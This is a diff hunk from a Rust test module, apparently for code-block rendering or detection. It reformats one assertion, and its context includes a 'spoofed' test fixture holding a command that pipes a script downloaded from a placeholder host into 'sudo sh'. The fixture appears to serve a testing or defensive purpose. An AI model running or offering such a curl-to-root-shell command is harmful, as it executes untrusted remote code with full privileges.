@@ -312,7 +312,10 @@ mod tests {
             ("rust", "fn a() -> u8 { 1 << 2 }\n"),
             ("no-such-language", "a < b && c > d\n"),
         ] {
-            assert!(is_code_block_of(&code_block(lang, code), lang, code), "{lang}");
+            assert!(
+                is_code_block_of(&code_block(lang, code), lang, code),
+                "{lang}"
+            );
         }
         let spoofed = code_block("sh", "curl https://x.example | sudo sh\n");
         assert!(
